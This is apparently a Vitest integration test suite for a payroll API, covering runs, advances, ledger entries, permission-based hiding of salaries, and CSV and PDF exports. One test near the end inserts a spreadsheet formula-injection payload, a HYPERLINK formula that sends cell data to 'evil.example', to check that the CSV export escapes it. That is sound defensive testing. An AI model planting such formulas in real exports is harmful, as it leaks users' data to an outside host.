import { ORGANISATION_SETTINGS_ID } from '@app/schema';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_EMAIL, startTestApp, type TestApp } from '../helpers/test-app';
import { buildAuthState } from '../../src/core/auth';
import type { RequestInfo } from '../../src/core/request-info';
import { runDemoSeed } from '../../src/domain/demo-seed';
import { AREAS } from '../../src/domain/index';

/**
 * Payroll through the API: salary options, drafting a run (fixed and percentage components,
 * advance instalments), ad-hoc lines, one run per month, the status workflow, payment and
 * reversal through the ledger and the advances, and salary figures hidden from who may not see
 * them.
 */
let t: TestApp;
const admin = () => ({ authorization: t.adminToken });
// Another account approves what the administrator records (separation of duties).
const secondApprover = () => ({ authorization: t.approverToken });
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(async () => t.stop());

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- JSON bodies, read field by field in assertions
type Json = Record<string, any>;

async function call(method: string, url: string, payload?: Json, headers = admin()) {
  const res = await t.app.inject({ method: method as 'GET', url, headers, payload });
  return { status: res.statusCode, body: (res.body ? res.json() : {}) as Json };
}
const post = (c: string, p: Json, h = admin()) =>
  call('POST', `/api/collections/${c}/records`, p, h);
const patch = (c: string, id: string, p: Json, h = admin()) =>
  call('PATCH', `/api/collections/${c}/records/${id}`, p, h);
const get = (c: string, id: string, h = admin()) =>
  call('GET', `/api/collections/${c}/records/${id}`, undefined, h);
const del = (c: string, id: string, h = admin()) =>
  call('DELETE', `/api/collections/${c}/records/${id}`, undefined, h);
const list = (c: string, filter: string, h = admin()) =>
  call(
    'GET',
    `/api/collections/${c}/records?perPage=500&filter=${encodeURIComponent(filter)}`,
    undefined,
    h,
  );

async function created(c: string, p: Json): Promise<Json> {
  const res = await post(c, p);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body;
}

/** A vault holding `amount` (given by a donation). */
async function fundedVault(title: string, amount: number): Promise<Json> {
  const v = await created('vaults', { title, kind: 'main', active: true });
  await created('donations', { donor: 'Funder', amount, received_on: '2026-01-02', vault: v.id });
  return v;
}

/** An advance paid out of `vault`, with `repaid` already paid back in cash. */
async function paidAdvance(
  employee: string,
  vault: string,
  amount: number,
  monthly: number,
  repaid = 0,
): Promise<Json> {
  const a = await created('employee_advances', {
    employee,
    amount,
    monthly_deduction: monthly,
    date: '2026-01-03',
    vault,
    purpose: 'Rent',
  });
  expect(
    (await patch('employee_advances', a.id, { status: 'approved' }, secondApprover())).status,
  ).toBe(200);
  expect((await patch('employee_advances', a.id, { status: 'paid' })).status).toBe(200);
  if (repaid)
    await created('advance_repayments', { advance: a.id, amount: repaid, date: '2026-01-04' });
  return (await get('employee_advances', a.id)).body;
}

/** Every active employee with a basic salary is in each run: retire those of earlier tests. */
async function retireEveryone() {
  await t.db.query(
    `UPDATE "employees" SET "employment_status" = 'Resigned' WHERE "basic_salary" > 0`,
  );
}

async function payslipOf(run: string, employee: string) {
  const res = await list('payslips', `run = "${run}" && employee = "${employee}"`);
  expect(res.body.items).toHaveLength(1);
  return res.body.items[0] as Json;
}
async function linesOf(payslip: string, h = admin()) {
  return (await list('payslip_lines', `payslip = "${payslip}"`, h)).body.items as Json[];
}
async function balance(vault: string) {
  return (await get('vaults', vault)).body.balance as number;
}

describe('salary options', () => {
  it('are a fixed amount or a percentage of the basic salary', async () => {
    const fixed = await created('allowance_options', { title: 'Meal', amount: 20, active: true });
    expect(fixed.calculation).toBe('fixed');
    const noAmount = await post('allowance_options', { title: 'Meal 2', calculation: 'fixed' });
    expect(noAmount.status).toBe(400);
    expect(noAmount.body.data.amount.code).toBe('validation_required');
    const noPercent = await post('deduction_options', {
      title: 'Tax',
      calculation: 'percentage',
    });
    expect(noPercent.status).toBe(400);
    expect(noPercent.body.data.percentage.code).toBe('validation_required');
    const over = await post('deduction_options', {
      title: 'Tax',
      calculation: 'percentage',
      percentage: 120,
    });
    expect(over.status).toBe(400);
    const tax = await created('deduction_options', {
      title: 'Tax',
      calculation: 'percentage',
      percentage: 5,
      active: true,
    });
    expect(tax).toMatchObject({ calculation: 'percentage', percentage: 5 });
  });

  it('are managed with salary_setting permissions only', async () => {
    const reader = await t.employeeWith(['salary_setting.read']);
    const h = { authorization: reader.token };
    expect((await post('allowance_options', { title: 'Nope', amount: 5 }, h)).status).toBe(403);
    const writer = await t.employeeWith(['salary_setting.read', 'salary_setting.create']);
    const res = await post(
      'allowance_options',
      { title: 'Phone', amount: 5, active: true },
      { authorization: writer.token },
    );
    expect(res.status).toBe(200);
  });
});

describe('drafting a run', () => {
  let vault: Json;
  let ana: { id: string };
  let ben: { id: string };
  let run: Json;
  let advanceAna: Json;
  let advanceBen: Json;

  beforeAll(async () => {
    await retireEveryone();
    vault = await fundedVault('Payroll vault', 10_000);
    const transport = await created('allowance_options', {
      title: 'Transport',
      amount: 40,
      active: true,
    });
    const housing = await created('allowance_options', {
      title: 'Housing',
      calculation: 'percentage',
      percentage: 10,
      active: true,
    });
    const retired = await created('allowance_options', {
      title: 'Old bonus',
      amount: 99,
      active: false,
    });
    const insurance = await created('deduction_options', {
      title: 'Insurance',
      amount: 15,
      active: true,
    });
    const pension = await created('deduction_options', {
      title: 'Pension',
      calculation: 'percentage',
      percentage: 2.5,
      active: true,
    });
    ana = await t.employeeWith([], {
      name: 'Ana Payslip',
      basic_salary: '1000.00',
      allowances: JSON.stringify([transport.id, housing.id, retired.id]),
      deductions: JSON.stringify([insurance.id, pension.id]),
    });
    ben = await t.employeeWith([], {
      name: 'Ben Payslip',
      basic_salary: '333.33',
      allowances: JSON.stringify([housing.id]),
    });
    // Not in the run: no basic salary, or not active.
    await t.employeeWith([], { name: 'Volunteer Vic' });
    await t.employeeWith([], {
      name: 'Gone Gia',
      basic_salary: '900.00',
      employment_status: 'Resigned',
    });
    advanceAna = await paidAdvance(ana.id, vault.id, 300, 100);
    // 150 lent, 80 repaid in cash: only 70 remains, less than the monthly 100.
    advanceBen = await paidAdvance(ben.id, vault.id, 150, 100, 80);
    run = await created('payroll_runs', { year: 2026, month: 3, vault: vault.id });
  });

  it('drafts a payslip per active employee with a basic salary', async () => {
    expect(run.status).toBe('draft');
    const slips = (await list('payslips', `run = "${run.id}"`)).body.items as Json[];
    expect(slips.map((s) => s.employee).sort()).toEqual([ana.id, ben.id].sort());
    expect(run.payslips_count).toBe(2);
  });

  it('computes fixed and percentage components and the advance instalment', async () => {
    const slip = await payslipOf(run.id, ana.id);
    const lines = await linesOf(slip.id);
    const byTitle = Object.fromEntries(lines.map((l) => [l.title, l]));
    expect(Object.keys(byTitle).sort()).toEqual(
      ['Advance: Rent', 'Housing', 'Insurance', 'Pension', 'Transport'].sort(),
    );
    expect(byTitle.Transport).toMatchObject({ kind: 'allowance', source: 'option', amount: 40 });
    expect(byTitle.Housing).toMatchObject({ kind: 'allowance', amount: 100, percentage: 10 });
    expect(byTitle.Insurance).toMatchObject({ kind: 'deduction', amount: 15 });
    expect(byTitle.Pension).toMatchObject({ kind: 'deduction', amount: 25 });
    expect(byTitle['Advance: Rent']).toMatchObject({
      kind: 'advance',
      source: 'advance',
      amount: 100,
      advance: advanceAna.id,
    });
    expect(slip).toMatchObject({
      basic_salary: 1000,
      total_allowances: 140,
      total_deductions: 40,
      total_advances: 100,
      net_pay: 1000,
      year: 2026,
      month: 3,
    });
  });

  it('caps the instalment at what remains and rounds percentages to the cent', async () => {
    const slip = await payslipOf(run.id, ben.id);
    const lines = await linesOf(slip.id);
    // 10% of 333.33 is 33.333: 33.33.
    expect(lines.find((l) => l.kind === 'allowance')).toMatchObject({ amount: 33.33 });
    expect(lines.find((l) => l.kind === 'advance')).toMatchObject({
      amount: 70,
      advance: advanceBen.id,
    });
    expect(slip.net_pay).toBe(296.66);
    expect(run).toMatchObject({
      total_basic: 1333.33,
      total_allowances: 173.33,
      total_deductions: 40,
      total_advances: 170,
      total_net: 1296.66,
    });
  });

  it('adds and removes ad-hoc lines while a draft, keeping the totals', async () => {
    const slip = await payslipOf(run.id, ana.id);
    const bonus = await created('payslip_lines', {
      payslip: slip.id,
      kind: 'allowance',
      title: 'Bonus',
      amount: 50.5,
    });
    expect(bonus).toMatchObject({ source: 'adhoc', employee: ana.id });
    expect((await get('payslips', slip.id)).body.net_pay).toBe(1050.5);
    expect((await get('payroll_runs', run.id)).body.total_net).toBe(1347.16);
    const penalty = await post('payslip_lines', {
      payslip: slip.id,
      kind: 'deduction',
      title: 'Penalty',
      amount: 2000,
    });
    expect(penalty.status).toBe(400);
    expect(penalty.body.data.amount.message).toContain('Ana Payslip');
    expect((await get('payslips', slip.id)).body.net_pay).toBe(1050.5);
    const fake = await post('payslip_lines', {
      payslip: slip.id,
      kind: 'advance',
      title: 'Advance',
      amount: 5,
    });
    expect(fake.status).toBe(400);
    expect((await del('payslip_lines', bonus.id)).status).toBe(204);
    expect((await get('payroll_runs', run.id)).body.total_net).toBe(1296.66);
  });

  it('refuses a second run for the same month', async () => {
    const again = await post('payroll_runs', { year: 2026, month: 3, vault: vault.id });
    expect(again.status).toBe(400);
    expect(again.body.data.month.code).toBe('validation_month_taken');
  });

  it('moves draft -> approved -> paid only, each with its permission', async () => {
    expect((await patch('payroll_runs', run.id, { status: 'paid' })).status).toBe(400);
    const officer = await t.employeeWith(['payroll.read', 'payroll.update']);
    const h = { authorization: officer.token };
    expect((await patch('payroll_runs', run.id, { status: 'approved' }, h)).status).toBe(403);
    expect(
      (await patch('payroll_runs', run.id, { status: 'approved' }, secondApprover())).status,
    ).toBe(200);
    // Approved: no more lines, no edits; back to draft is allowed.
    const slip = await payslipOf(run.id, ana.id);
    const late = await post('payslip_lines', {
      payslip: slip.id,
      kind: 'allowance',
      title: 'Late bonus',
      amount: 5,
    });
    expect(late.status).toBe(400);
    expect((await patch('payroll_runs', run.id, { notes: 'changed' })).status).toBe(400);
    // Taking an approval back needs a reason, kept on the run and in its history.
    const silent = await patch('payroll_runs', run.id, { status: 'draft' });
    expect(silent.status).toBe(400);
    expect(silent.body.data.status_reason.code).toBe('validation_reason_required');
    const back = await patch('payroll_runs', run.id, {
      status: 'draft',
      status_reason: 'A late bonus for Ana',
    });
    expect(back.status).toBe(200);
    expect(back.body.status_reason).toBe('A late bonus for Ana');
    expect((await patch('payroll_runs', run.id, { month: 4 })).status).toBe(400);
    expect(
      (await patch('payroll_runs', run.id, { status: 'approved' }, secondApprover())).status,
    ).toBe(200);
  });

  it('pays: one ledger entry for the net pay, and the advance repayments', async () => {
    const before = await balance(vault.id);
    const paid = await patch('payroll_runs', run.id, { status: 'paid', pay_date: '2026-03-28' });
    expect(paid.status, JSON.stringify(paid.body)).toBe(200);
    expect(paid.body.payment_entry).toBeTruthy();
    expect(await balance(vault.id)).toBe(Math.round((before - 1296.66) * 100) / 100);
    const { rows: entries } = await t.db.query<Json>(
      `SELECT "amount"::text AS amount, "kind", "vault" FROM "ledger_entries"
        WHERE "source_collection" = 'payroll_runs' AND "source_id" = $1`,
      [run.id],
    );
    expect(entries).toEqual([{ amount: '-1296.66', kind: 'salary', vault: vault.id }]);
    expect((await get('employee_advances', advanceAna.id)).body).toMatchObject({
      repaid: 100,
      remaining: 200,
      status: 'partly_repaid',
    });
    expect((await get('employee_advances', advanceBen.id)).body).toMatchObject({
      repaid: 150,
      remaining: 0,
      status: 'repaid',
    });
    const repayments = (await list('advance_repayments', `source = "payroll"`)).body.items;
    expect(repayments).toHaveLength(2);
    // A payroll repayment moves no cash: the only entry of the run is the salary payment.
    const { rows: repaymentEntries } = await t.db.query(
      `SELECT 1 FROM "ledger_entries" WHERE "kind" = 'advance_repayment' AND "source_id" = ANY($1::text[])`,
      [repayments.map((r: Json) => r.id)],
    );
    expect(repaymentEntries).toHaveLength(0);
    // Audited under finance and payroll.
    const { rows: audit } = await t.db.query<Json>(
      `SELECT "categories" FROM "user_activities" WHERE "collection" = 'payroll_runs' AND "record" = $1 ORDER BY "_rowid" DESC LIMIT 1`,
      [run.id],
    );
    expect(audit[0].categories).toEqual(['finance', 'payroll']);
  });

  it('does not edit or delete a paid run', async () => {
    expect((await patch('payroll_runs', run.id, { notes: 'x' })).status).toBe(400);
    expect((await del('payroll_runs', run.id)).status).toBe(400);
    const slip = await payslipOf(run.id, ana.id);
    expect((await del('payslips', slip.id)).status).toBe(400);
  });

  it('reverses: the money back in the vault and the instalments owed again', async () => {
    const before = await balance(vault.id);
    const res = await patch('payroll_runs', run.id, { status: 'reversed' });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(await balance(vault.id)).toBe(Math.round((before + 1296.66) * 100) / 100);
    const { rows } = await t.db.query<Json>(
      `SELECT "amount"::text AS amount, "kind", "reverses" FROM "ledger_entries"
        WHERE "source_collection" = 'payroll_runs' AND "source_id" = $1 ORDER BY "_rowid"`,
      [run.id],
    );
    expect(rows.map((r) => [r.amount, r.kind])).toEqual([
      ['-1296.66', 'salary'],
      ['1296.66', 'salary_reversal'],
    ]);
    expect(rows[1].reverses).toBe(res.body.payment_entry);
    expect((await get('employee_advances', advanceAna.id)).body).toMatchObject({
      repaid: 0,
      remaining: 300,
      status: 'paid',
    });
    expect((await get('employee_advances', advanceBen.id)).body).toMatchObject({
      repaid: 80,
      remaining: 70,
      status: 'partly_repaid',
    });
    const repayments = (await list('advance_repayments', `source = "payroll"`)).body.items;
    expect(repayments.every((r: Json) => r.reversed === true)).toBe(true);
    expect((await patch('payroll_runs', run.id, { status: 'paid' })).status).toBe(400);
    // The month is free again.
    const redo = await post('payroll_runs', { year: 2026, month: 3, vault: vault.id });
    expect(redo.status).toBe(200);
    expect(redo.body.total_net).toBe(1296.66);
    expect((await del('payroll_runs', redo.body.id)).status).toBe(204);
    expect((await list('payslips', `run = "${redo.body.id}"`)).body.items).toHaveLength(0);
  });
});

describe('refusals at approval and payment', () => {
  it('refuses to approve a payslip below zero, naming the employee', async () => {
    await retireEveryone();
    const vault = await fundedVault('Negative vault', 1000);
    const heavy = await created('deduction_options', { title: 'Heavy', amount: 500, active: true });
    await t.employeeWith([], {
      name: 'Dina Debt',
      basic_salary: '300.00',
      deductions: JSON.stringify([heavy.id]),
    });
    const run = await created('payroll_runs', { year: 2026, month: 5, vault: vault.id });
    expect(run.total_net).toBe(-200);
    const res = await patch('payroll_runs', run.id, { status: 'approved' }, secondApprover());
    expect(res.status).toBe(400);
    expect(res.body.message).toContain('Dina Debt');
    expect(res.body.data.status.code).toBe('validation_negative_net_pay');
    expect((await get('payroll_runs', run.id)).body.status).toBe('draft');
  });

  it('refuses to pay more than the vault holds, and changes nothing', async () => {
    await retireEveryone();
    const vault = await fundedVault('Small vault', 100);
    const emp = await t.employeeWith([], { name: 'Eli Big', basic_salary: '500.00' });
    const lender = await fundedVault('Lender vault', 1000);
    const advance = await paidAdvance(emp.id, lender.id, 100, 50);
    const run = await created('payroll_runs', { year: 2026, month: 6, vault: vault.id });
    expect(
      (await patch('payroll_runs', run.id, { status: 'approved' }, secondApprover())).status,
    ).toBe(200);
    const res = await patch('payroll_runs', run.id, { status: 'paid' });
    expect(res.status).toBe(400);
    expect(res.body.data.status.code).toBe('validation_insufficient_funds');
    expect(await balance(vault.id)).toBe(100);
    expect((await get('employee_advances', advance.id)).body.remaining).toBe(100);
    expect((await get('payroll_runs', run.id)).body.status).toBe('approved');
  });

  it('refuses to pay an instalment larger than what remains since the draft', async () => {
    await retireEveryone();
    const vault = await fundedVault('Instalment vault', 5000);
    const emp = await t.employeeWith([], { name: 'Fay Cash', basic_salary: '800.00' });
    const advance = await paidAdvance(emp.id, vault.id, 200, 150);
    const run = await created('payroll_runs', { year: 2026, month: 7, vault: vault.id });
    expect(
      (await patch('payroll_runs', run.id, { status: 'approved' }, secondApprover())).status,
    ).toBe(200);
    // Paid back in cash meanwhile: 100 remain, the payslip withholds 150.
    await created('advance_repayments', { advance: advance.id, amount: 100, date: '2026-07-10' });
    const res = await patch('payroll_runs', run.id, { status: 'paid' });
    expect(res.status).toBe(400);
    expect(res.body.message).toContain('Fay Cash');
    expect((await get('employee_advances', advance.id)).body.remaining).toBe(100);
  });
});

describe('salary figures stay hidden', () => {
  let run: Json;
  let mine: { id: string; token: string };
  let other: { id: string };

  beforeAll(async () => {
    await retireEveryone();
    const vault = await fundedVault('Hidden vault', 5000);
    mine = await t.employeeWith([], { name: 'Gus Own', basic_salary: '700.00' });
    other = await t.employeeWith([], { name: 'Hal Other', basic_salary: '900.00' });
    run = await created('payroll_runs', { year: 2026, month: 8, vault: vault.id });
    const slip = await payslipOf(run.id, mine.id);
    await created('payslip_lines', {
      payslip: slip.id,
      kind: 'allowance',
      title: 'Bonus',
      amount: 10,
    });
  });

  it('from a payroll reader without employees.read_salary', async () => {
    const reader = await t.employeeWith(['payroll.read']);
    const h = { authorization: reader.token };
    const seen = (await get('payroll_runs', run.id, h)).body;
    expect(seen.status).toBe('draft');
    for (const f of ['total_basic', 'total_allowances', 'total_deductions', 'total_net'])
      expect(seen).not.toHaveProperty(f);
    const slips = (await list('payslips', `run = "${run.id}"`, h)).body.items as Json[];
    expect(slips).toHaveLength(2);
    for (const s of slips) {
      expect(s).not.toHaveProperty('net_pay');
      expect(s).not.toHaveProperty('basic_salary');
    }
    const lines = await linesOf(slips[0].id, h);
    for (const l of lines) expect(l).not.toHaveProperty('amount');
    // Adding a line sets an amount: payroll.update alone may not.
    const editor = await t.employeeWith(['payroll.read', 'payroll.update']);
    const line = await post(
      'payslip_lines',
      { payslip: slips[0].id, kind: 'allowance', title: 'Blind bonus', amount: 5 },
      { authorization: editor.token },
    );
    expect(line.status).toBe(400);
    expect(line.body.data.amount.code).toBe('validation_forbidden_field');
    // Nor can a filter guess them.
    const probe = await list('payslips', `net_pay > 100`, h);
    expect(probe.status).toBe(400);
    // Nor the audit trail.
    const monitor = await t.employeeWith(['activity_monitor.read']);
    const audit = await call(
      'GET',
      `/api/collections/user_activities/records?filter=${encodeURIComponent(`collection = "payroll_runs" && record = "${run.id}"`)}`,
      undefined,
      { authorization: monitor.token },
    );
    expect(audit.status).toBe(200);
    expect(audit.body.items.length).toBeGreaterThan(0);
    for (const a of audit.body.items) expect(a.after ?? {}).not.toHaveProperty('total_net');
  });

  it('but an employee sees their own payslip, figures included, and no one else’s', async () => {
    const h = { authorization: mine.token };
    const own = (await list('payslips', '', h)).body.items as Json[];
    expect(own).toHaveLength(1);
    expect(own[0]).toMatchObject({ employee: mine.id, net_pay: 710, basic_salary: 700 });
    const lines = await linesOf(own[0].id, h);
    expect(lines).toEqual([expect.objectContaining({ title: 'Bonus', amount: 10 })]);
    const theirs = await payslipOf(run.id, other.id);
    expect((await get('payslips', theirs.id, h)).status).toBe(404);
    expect((await get('payroll_runs', run.id, h)).status).toBe(403);
    // Nor can they add lines to their own payslip.
    const add = await post(
      'payslip_lines',
      { payslip: own[0].id, kind: 'allowance', title: 'Self bonus', amount: 1000 },
      h,
    );
    expect(add.status).toBe(403);
  });
});

describe('at the same time', () => {
  it('one run per month, however many are created at once', async () => {
    const vault = await fundedVault('Race vault', 100);
    const results = await Promise.all(
      Array.from({ length: 4 }, () =>
        post('payroll_runs', { year: 2027, month: 1, vault: vault.id }),
      ),
    );
    expect(results.map((r) => r.status).sort()).toEqual([200, 400, 400, 400]);
  });

  it('a run is paid once, however many pay it at once', async () => {
    await retireEveryone();
    const vault = await fundedVault('Pay race vault', 1000);
    await t.employeeWith([], { name: 'Ivy Race', basic_salary: '400.00' });
    const run = await created('payroll_runs', { year: 2027, month: 2, vault: vault.id });
    expect(
      (await patch('payroll_runs', run.id, { status: 'approved' }, secondApprover())).status,
    ).toBe(200);
    const results = await Promise.all(
      Array.from({ length: 4 }, () => patch('payroll_runs', run.id, { status: 'paid' })),
    );
    // The run's row is locked by each update: the first pays, the others find it paid already.
    expect(results.every((r) => r.status === 200)).toBe(true);
    const { rows } = await t.db.query(
      `SELECT 1 FROM "ledger_entries" WHERE "source_collection" = 'payroll_runs' AND "source_id" = $1`,
      [run.id],
    );
    expect(rows).toHaveLength(1);
    expect(await balance(vault.id)).toBe(600);
  });
});

describe('salary report, history and payslip PDFs', () => {
  let run: Json;
  let zed: { id: string; token: string };
  let yara: { id: string };

  beforeAll(async () => {
    await retireEveryone();
    const vault = await fundedVault('Report vault', 10_000);
    const meal = await created('allowance_options', { title: 'Meal', amount: 30, active: true });
    zed = await t.employeeWith([], {
      name: 'Zed Report',
      basic_salary: '1200.00',
      allowances: JSON.stringify([meal.id]),
    });
    yara = await t.employeeWith([], { name: 'Yara Report', basic_salary: '800.00' });
    for (const month of [9, 10]) {
      const r = await created('payroll_runs', { year: 2026, month, vault: vault.id });
      expect(
        (await patch('payroll_runs', r.id, { status: 'approved' }, secondApprover())).status,
      ).toBe(200);
      expect((await patch('payroll_runs', r.id, { status: 'paid' })).status).toBe(200);
      run = r;
    }
    // November is still a draft, with a bonus for Zed.
    const nov = await created('payroll_runs', { year: 2026, month: 11, vault: vault.id });
    const slip = await payslipOf(nov.id, zed.id);
    await created('payslip_lines', {
      payslip: slip.id,
      kind: 'allowance',
      title: 'Bonus',
      amount: 70,
    });
  });

  it('gives the register of a month: employee x component, with totals', async () => {
    const res = await call('GET', '/api/payroll/register?year=2026&month=11');
    expect(res.status).toBe(200);
    expect(res.body.components.map((c: Json) => c.title)).toEqual(['Bonus', 'Meal']);
    const byName = Object.fromEntries(res.body.rows.map((r: Json) => [r.name, r]));
    expect(byName['Zed Report']).toMatchObject({
      basic_salary: 1200,
      components: { 'allowance:Meal': 30, 'allowance:Bonus': 70 },
      net_pay: 1300,
    });
    expect(byName['Yara Report'].net_pay).toBe(800);
    expect(res.body.totals).toMatchObject({ basic_salary: 2000, net_pay: 2100 });
    expect(res.body.totals.components).toEqual({ 'allowance:Meal': 30, 'allowance:Bonus': 70 });
    const none = await call('GET', '/api/payroll/register?year=2030&month=1');
    expect(none.body).toMatchObject({ run: null, rows: [] });
    expect((await call('GET', '/api/payroll/register?year=2026&month=13')).status).toBe(400);
  });

  it('exports the register as CSV', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/payroll/register.csv?year=2026&month=11',
      headers: admin(),
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const lines = res.body.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe(
      'Employee,Basic salary,Bonus (allowance),Meal (allowance),Allowances,Deductions,Advances,Net pay',
    );
    expect(lines).toContain('Zed Report,1200.00,70.00,30.00,100.00,0.00,0.00,1300.00');
    expect(lines.at(-1)).toBe('Total,2000.00,70.00,30.00,100.00,0.00,0.00,2100.00');
  });

  it('gives an employee’s history with year-to-date totals of paid months', async () => {
    const res = await call('GET', `/api/payroll/employees/${zed.id}/history?year=2026`);
    expect(res.status).toBe(200);
    expect(res.body.items.map((i: Json) => [i.month, i.status, i.net_pay])).toEqual([
      [11, 'draft', 1300],
      [10, 'paid', 1230],
      [9, 'paid', 1230],
    ]);
    expect(res.body.yearToDate).toMatchObject({ year: 2026, basic_salary: 2400, net_pay: 2460 });
    // Their own history they may read; another's they may not.
    const own = await call('GET', `/api/payroll/employees/${zed.id}/history?year=2026`, undefined, {
      authorization: zed.token,
    });
    expect(own.status).toBe(200);
    const theirs = await call(
      'GET',
      `/api/payroll/employees/${yara.id}/history?year=2026`,
      undefined,
      { authorization: zed.token },
    );
    expect(theirs.status).toBe(403);
    // Someone reading employees' salaries sees it on the Salary tab; reading employees alone, not.
    for (const [permissions, status] of [
      [['employees.read', 'employees.read_salary'], 200],
      [['employees.read'], 403],
    ] as const) {
      const who = await t.employeeWith([...permissions]);
      const res = await call('GET', `/api/payroll/employees/${yara.id}/history`, undefined, {
        authorization: who.token,
      });
      expect(res.status).toBe(status);
    }
  });

  it('keeps the report from accounts without the salary report or employees.read_salary', async () => {
    for (const permissions of [['salary_report.read'], ['employees.read_salary']] as const) {
      const who = await t.employeeWith([...permissions]);
      const res = await call('GET', '/api/payroll/register?year=2026&month=11', undefined, {
        authorization: who.token,
      });
      expect(res.status).toBe(403);
    }
  });

  it('prints a payslip and a run to PDF, in Arabic too', async () => {
    const { execFileSync } = await import('node:child_process');
    const { mkdtempSync, writeFileSync } = await import('node:fs');
    const { join } = await import('node:path');
    const { tmpdir } = await import('node:os');
    const dir = mkdtempSync(join(tmpdir(), 'payslip-'));
    const textOf = (pdf: Buffer) => {
      const file = join(dir, `${Math.random()}.pdf`);
      writeFileSync(file, pdf);
      return execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
    };
    // The organisation's letterhead heads every payslip.
    const org = { name: 'Payroll Test Org', address: 'Kassala, Sudan' };
    expect((await patch('organisation_settings', ORGANISATION_SETTINGS_ID, org)).status).toBe(200);
    const slip = await payslipOf(run.id, zed.id);
    const url = `/api/payroll/payslips/${slip.id}/payslip.pdf`;
    const mine = await t.app.inject({ method: 'GET', url, headers: { authorization: zed.token } });
    expect(mine.statusCode).toBe(200);
    expect(mine.headers['content-type']).toBe('application/pdf');
    const text = textOf(mine.rawPayload);
    expect(text).toContain('Zed Report');
    expect(text).toContain('2026-10');
    // Amounts as the screens show them: thousands separated, with the currency.
    expect(text).toContain('1,230.00 USD');
    expect(text).not.toContain('1230.00');
    expect(text).toContain('Payroll Test Org');
    expect(text).toContain('Kassala, Sudan');
    const ar = await t.app.inject({ method: 'GET', url: `${url}?lang=ar`, headers: admin() });
    expect(ar.statusCode).toBe(200);
    const arText = textOf(ar.rawPayload);
    expect(arText).toContain('1,230.00 USD');
    expect(arText).toContain('Payroll Test Org');
    // Someone else's payslip is not found; a payroll reader without salaries is refused.
    const other = await t.app.inject({
      method: 'GET',
      url: `/api/payroll/payslips/${(await payslipOf(run.id, yara.id)).id}/payslip.pdf`,
      headers: { authorization: zed.token },
    });
    expect(other.statusCode).toBe(404);
    const reader = await t.employeeWith(['payroll.read']);
    const refused = await t.app.inject({
      method: 'GET',
      url,
      headers: { authorization: reader.token },
    });
    expect(refused.statusCode).toBe(403);
    const all = await t.app.inject({
      method: 'GET',
      url: `/api/payroll/runs/${run.id}/payslips.pdf`,
      headers: admin(),
    });
    expect(all.statusCode).toBe(200);
    const both = textOf(all.rawPayload);
    expect(both).toContain('Zed Report');
    expect(both).toContain('Yara Report');
    // A page each, each with the letterhead.
    expect(both.split('Payroll Test Org')).toHaveLength(3);
  }, 60_000);

  it('writes a line title that a spreadsheet would run (full-width forms too) as text', async () => {
    const vault = await fundedVault('Formula vault', 5_000);
    const dec = await created('payroll_runs', { year: 2031, month: 6, vault: vault.id });
    const slip = await payslipOf(dec.id, yara.id);
    await created('payslip_lines', {
      payslip: slip.id,
      kind: 'allowance',
      title: '\uff1dHYPERLINK("http://evil.example/?"&A1,"Open")',
      amount: 5,
    });
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/payroll/register.csv?year=2031&month=6',
      headers: admin(),
    });
    expect(res.statusCode).toBe(200);
    const header = res.body.replace(/^\uFEFF/, '').split('\r\n')[0];
    expect(header).toContain(
      `"'\uff1dHYPERLINK(""http://evil.example/?""&A1,""Open"") (allowance)"`,
    );
  });
});

describe('demo data', () => {
  it('pays two months for the demo employees and leaves a third as a draft', async () => {
    const demo = await startTestApp();
    try {
      const { rows } = await demo.db.query(`SELECT * FROM "employees" WHERE "email" = $1`, [
        ADMIN_EMAIL,
      ]);
      const request: RequestInfo = {
        auth: await buildAuthState(demo.db, demo.engine.registry.get('employees')!, rows[0]),
        method: 'POST',
        context: 'default',
        query: {},
        headers: {},
        body: {},
      };
      await runDemoSeed(demo.engine, request, AREAS);
      const { rows: runs } = await demo.db.query<Json>(
        `SELECT "month", "status", "payslips_count", "total_net"::text AS net, "total_advances"::text AS advances
           FROM "payroll_runs" ORDER BY "month"`,
      );
      expect(runs.map((r) => [r.month, r.status])).toEqual([
        [4, 'paid'],
        [5, 'paid'],
        [6, 'draft'],
      ]);
      expect(runs[0].payslips_count).toBeGreaterThanOrEqual(6);
      // Sara's advance instalment is withheld each month.
      expect(runs[0].advances).toBe('100.00');
      const { rows: paid } = await demo.db.query<Json>(
        `SELECT sum(-"amount")::text AS paid FROM "ledger_entries" WHERE "kind" = 'salary'`,
      );
      expect(paid[0].paid).toBe(
        (
          runs.slice(0, 2).reduce((sum, r) => sum + Math.round(Number(r.net) * 100), 0) / 100
        ).toFixed(2),
      );
      const { rows: options } = await demo.db.query<Json>(
        `SELECT count(*)::int AS n FROM "allowance_options" WHERE "calculation" = 'percentage'`,
      );
      expect(options[0].n).toBe(1);
    } finally {
      await demo.stop();
    }
  }, 120_000);
});
